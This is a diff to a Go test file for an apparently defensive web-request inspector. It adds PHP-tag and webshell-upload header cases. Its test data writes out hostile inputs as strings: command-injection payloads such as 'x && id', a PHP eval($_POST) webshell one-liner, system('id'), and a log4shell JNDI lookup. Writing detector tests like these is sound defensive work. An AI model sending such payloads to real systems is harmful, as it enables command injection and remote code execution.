@@ -62,6 +62,9 @@ func TestAttackTypesByLevel(t *testing.T) {
 		{"cmdi/and-and before id", param("x && id"), [3]string{"", "cmdi", "cmdi"}, "params"},
 		{"cmdi/quoted command", param(";w'h'o'am'i"), [3]string{"", "", "cmdi"}, "params"},
 		{"cmdi/pipe with flag", param("x | grep -v y"), [3]string{"", "", "cmdi"}, "params"},
+		{"vuln/php short open tag", param("<? echo 'hello'; ?>"), [3]string{"vuln", "vuln", "vuln"}, "params"},
+		{"vuln/php superglobal", param("$_SERVER['test'];"), [3]string{"", "vuln", "vuln"}, "params"},
+		{"clean/xml body", body("application/xml", `<?xml version="1.0"?><a>1</a>`), [3]string{"", "", ""}, ""},
 		{"vuln/php system", param("system('id')"), [3]string{"vuln", "vuln", "vuln"}, "params"},
 		{"webshell/php one-liner", param("eval($_POST['x'])"), [3]string{"webshell", "webshell", "webshell"}, "params"},
 		{"vuln/log4shell header", header("User-Agent", "${jndi:ldap://203.0.113.9/a}"), [3]string{"vuln", "vuln", "vuln"}, "header"},
@@ -269,4 +272,16 @@ func TestConcurrentUse(t *testing.T) {
 		}()
 	}
 	wg.Wait()
+}
+
+// TestUploadNameInAHeader: with check_all_headers, a header whose value is
+// a PHP file name is a webshell upload; a header naming an image or
+// holding a URL to a PHP page is not.
+func TestUploadNameInAHeader(t *testing.T) {
+	in := mustCompile(t, inspect.Config{Enabled: true, Common: true, Webshell: true, Level: 1, CheckAllHeaders: true})
+	for value, want := range map[string]string{"a.php": "webshell", "photo. php": "webshell", "fda.php5...": "webshell", "photo.jpg": "", "https://example.com/index.php": ""} {
+		if v := in.Inspect(header("X-File-Name", value)); v.Attack != want {
+			t.Errorf("X-File-Name %q: %+v, want %q", value, v, want)
+		}
+	}
 }
